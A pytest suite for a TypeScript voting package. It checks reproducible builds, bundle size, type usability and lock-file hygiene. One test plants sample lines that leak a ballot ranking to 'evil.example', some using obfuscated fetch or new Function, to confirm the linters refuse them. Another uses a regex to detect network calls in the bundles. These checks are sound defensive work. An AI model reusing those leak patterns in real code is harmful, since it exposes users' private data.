"""The TypeScript package: the sources give what is committed, it is small, its types serve."""

import gzip
import json
import re
import subprocess
import sysconfig
from pathlib import Path

import pytest

ROOT = Path(__file__).parents[1]
WEB = ROOT / "web"
DIST = WEB / "dist"
NODE = Path(sysconfig.get_path("scripts")) / "node"
ENTRIES = ("hushvote", "duel", "voting", "count", "en", "de")

pytestmark = pytest.mark.skipif(
    not (WEB / "node_modules" / ".installed").exists(),
    reason="`make web/node_modules/.installed` installs what builds the TypeScript package",
)


def node(*words: str | Path, cwd: Path = WEB) -> str:
    """What Node prints, with the Node of this environment."""
    done = subprocess.run(
        [NODE, *words],
        cwd=cwd,
        check=False,
        text=True,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    assert done.returncode == 0, done.stdout
    return done.stdout


def files(folder: Path) -> dict[str, bytes]:
    """All files below a folder by their relative names."""
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    """The package, built anew."""
    folder = tmp_path_factory.mktemp("dist")
    node("build.mjs", folder)
    return folder


def test_the_committed_bundle_is_what_the_sources_give(built):
    fresh, committed = files(built), files(DIST)
    assert set(fresh) == set(committed), "`make web-build` makes web/dist anew"
    differing = [name for name in fresh if fresh[name] != committed[name]]
    assert not differing, "`make web-build` makes web/dist anew"


@pytest.mark.slow
def test_the_bundle_does_not_depend_on_where_it_is_built(built, tmp_path):
    for name in ("src", "build.mjs", "package.json", "tsconfig.json"):
        subprocess.run(["cp", "-r", WEB / name, tmp_path / name], check=True)
    (tmp_path / "node_modules").symlink_to(WEB / "node_modules")
    node("build.mjs", cwd=tmp_path)
    assert files(tmp_path / "dist") == files(built)


@pytest.mark.parametrize(("name", "limit"), [("hushvote", 15_000), ("duel", 9_000)])
def test_the_bundle_is_small(name, limit):
    assert len(gzip.compress((DIST / f"{name}.js").read_bytes(), 9, mtime=0)) < limit


@pytest.mark.parametrize(
    "line",
    [
        "void import(`https://evil.example/${String(ranking)}`);",
        "(Reflect.get(globalThis, 'fetch') as (to: string) => void)(String(ranking));",
        "(globalThis as unknown as { fetch(to: string): void }).fetch(String(ranking));",
        "new Function(String(ranking))();",
        "void fetch(String(ranking));",
    ],
)
def test_a_source_that_reaches_outside_is_refused(line, tmp_path):
    configs = [f"tsconfig{part}.json" for part in ("", ".pages", ".spec")]
    for name in ("src", "package.json", "eslint.config.mjs", *configs):
        subprocess.run(["cp", "-r", WEB / name, tmp_path / name], check=True)
    (tmp_path / "node_modules").symlink_to(WEB / "node_modules")
    source = tmp_path / "src" / "lottery.ts"
    added = f"export function leak(ranking: number[]): void {{\n  {line}\n}}\n"
    source.write_text(source.read_text(encoding="utf-8") + added, encoding="utf-8")
    eslint = WEB / "node_modules" / "eslint" / "bin" / "eslint.js"
    tsc = WEB / "node_modules" / "typescript" / "bin" / "tsc"
    refused = [
        subprocess.run([NODE, *words], cwd=tmp_path, capture_output=True, check=False).returncode
        for words in ([eslint, "src/lottery.ts"], [tsc, "-p", "tsconfig.json"])
    ]
    assert any(refused)


@pytest.mark.parametrize("name", ENTRIES)
def test_each_entry_stands_alone(name):
    text = (DIST / f"{name}.js").read_text(encoding="utf-8")
    assert not re.search(r"\bimport\b|\brequire\b|\bfetch\b|XMLHttpRequest|WebSocket|https?:", text)
    assert not re.search(r"\bfrom\s*[\"'`]", text)


def test_a_program_in_strict_typescript_can_use_every_entry(tmp_path):
    package = tmp_path / "node_modules" / "hushvote"
    package.parent.mkdir()
    package.symlink_to(WEB)
    (tmp_path / "package.json").write_text('{"type": "module"}')
    lines = [
        f"import * as {name} from 'hushvote{'' if name == 'hushvote' else '/' + name}';"
        for name in ENTRIES
    ]
    (tmp_path / "app.ts").write_text("\n".join([*lines, f"export {{ {', '.join(ENTRIES)} }};\n"]))
    tsc = WEB / "node_modules" / "typescript" / "bin" / "tsc"
    options = [
        "--noEmit",
        "--strict",
        "--target",
        "ES2022",
        "--lib",
        "ES2022",
        "--types",
        "--preserveSymlinks",
    ]
    for module, resolution in (("NodeNext", "NodeNext"), ("ESNext", "Bundler")):
        extra = ["--module", module, "--moduleResolution", resolution]
        node(tsc, *options, *extra, "app.ts", cwd=tmp_path)


def test_node_imports_every_entry_by_name(tmp_path):
    package = tmp_path / "node_modules" / "hushvote"
    package.parent.mkdir()
    package.symlink_to(WEB)
    script = "\n".join(
        f"console.log(Object.keys(await import('hushvote{name}')).length > 0);"
        for name in ("", "/duel", "/count", "/en")
    )
    (tmp_path / "app.mjs").write_text(script)
    assert node("app.mjs", cwd=tmp_path).split() == ["true"] * 4


def test_the_lock_file_names_no_host_and_has_a_hash_for_each_package():
    lock = json.loads((WEB / "package-lock.json").read_text(encoding="utf-8"))
    packages = {name: entry for name, entry in lock["packages"].items() if name}
    assert all("resolved" not in entry for entry in packages.values())
    assert all(entry["integrity"].startswith("sha512-") for entry in packages.values())


def test_there_is_one_dependency():
    package = json.loads((WEB / "package.json").read_text(encoding="utf-8"))
    assert list(package["dependencies"]) == ["@noble/hashes"]
